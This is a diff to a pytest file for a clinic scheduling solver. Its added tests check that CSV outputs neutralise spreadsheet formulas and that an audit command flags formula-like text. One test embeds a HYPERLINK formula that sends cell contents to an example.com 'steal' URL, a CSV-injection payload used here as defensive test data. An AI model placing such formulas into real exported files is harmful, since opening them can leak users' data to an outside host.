@@ -1,23 +1,27 @@
 """write_files is all or nothing: every file moves into place once all are written, a writer
-that raises leaves the folder as it was; the solve and re-plan outputs are complete."""
+that raises leaves the folder as it was; the solve and re-plan outputs are complete, and
+every CSV among them is safe to open in a spreadsheet."""
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import Callable
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from typer.testing import CliRunner
 
 from models.events import Cancel
-from models.loader import load_scenario
-from models.results import SCHEDULE_COLUMNS, Change, ExceptionItem
+from models.loader import load_scenario, save_scenario
+from models.results import SCHEDULE_COLUMNS, Change, ExceptionItem, Schedule
+from solver.cli import app
 from solver.outputs.files import write_files, write_outputs, write_reshuffle_outputs
 from solver.outputs.kpis import kpis
 from solver.replan import reshuffle
 from solver.solve import solve
-from tests.conftest import TUESDAY, mini_clinic, request, service
+from tests.conftest import MONDAY, TUESDAY, mini_clinic, patients, provider, request, service
 from tests.solver.replan.test_events import at
 
 
@@ -98,3 +102,64 @@ def test_the_re_plan_outputs_are_the_five_files(tmp_path: Path) -> None:
     assert list(changes["change"]) == ["cancelled_late"]
     state = load_scenario(tmp_path / "scenario.yaml")
     assert [(b.id, b.status) for b in state.bookings if b.id == "r1"] == [("r1", "cancelled_late")]
+
+
+def _cells(path: Path) -> list[dict[str, str]]:
+    """The rows of a CSV file as a spreadsheet gets them (no unquoting)."""
+    with path.open(newline="", encoding="utf-8") as stream:
+        return list(csv.DictReader(stream))
+
+
+def test_a_formula_in_the_rulebook_reaches_no_csv_as_a_formula(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://example.com/steal?"&A1,"details")'
+    scenario = mini_clinic(
+        policies={"escalation_owner": formula},
+        services=[service("botox"), service("filler")],  # nobody may perform filler
+        requests=[
+            request("r1", "p1", "botox", latest=TUESDAY),
+            request("r2", "p2", "filler", latest=TUESDAY),
+        ],
+    )
+    save_scenario(scenario, tmp_path / "clinic.yaml")
+    runner = CliRunner()
+    fast = ["--time-limit", "0.5", "--workers", "1", "--deterministic"]
+    night = tmp_path / "night"
+    solved = runner.invoke(
+        app, ["solve", str(tmp_path / "clinic.yaml"), "--out", str(night), *fast]
+    )
+    assert solved.exit_code == 0, solved.output
+    assert [row["owner"] for row in _cells(night / "exceptions.csv")] == ["'" + formula]
+    day = tmp_path / "day"
+    command = [
+        "reshuffle",
+        str(tmp_path / "clinic.yaml"),
+        "--schedule",
+        str(night / "schedule.csv"),
+    ]
+    command += ["--event", "cancel:r1", "--now", f"{MONDAY}T08:00", "--out", str(day), *fast]
+    replanned = runner.invoke(app, command)
+    assert replanned.exit_code == 0, replanned.output
+    assert [row["owner"] for row in _cells(day / "changes.csv")] == ["'" + formula]
+    assert {row["owner"] for row in _cells(day / "exceptions.csv")} == {"'" + formula}
+    audited = runner.invoke(app, ["audit", str(tmp_path / "clinic.yaml"), "--json"])
+    warned = [(f["code"], f["where"]) for f in json.loads(audited.output)]
+    assert ("formula_like_text", "policies.escalation_owner") in warned
+
+
+def test_ids_starting_like_a_formula_round_trip_and_pass_the_checker(tmp_path: Path) -> None:
+    scenario = mini_clinic(
+        services=[service("-botox")],
+        providers=[provider("-rn", ["-botox"], {"mon": "09:00-17:00"})],
+        patients=patients(["-p1", "-p2"]),
+        requests=[request("-r1", "-p1", "-botox"), request("-r2", "-p2", "-botox")],
+    )
+    result = solve(scenario, time_limit=0.5, num_workers=1, seed=0, deterministic=True)
+    write_outputs(result, kpis(result), tmp_path / "out")
+    rows = _cells(tmp_path / "out" / "schedule.csv")
+    assert [row["request_id"] for row in rows] == ["'-r1", "'-r2"]
+    assert Schedule.read_csv(tmp_path / "out" / "schedule.csv") == result.schedule
+    save_scenario(scenario, tmp_path / "clinic.yaml")
+    checked = CliRunner().invoke(
+        app, ["check", str(tmp_path / "clinic.yaml"), str(tmp_path / "out" / "schedule.csv")]
+    )
+    assert checked.exit_code == 0, checked.output
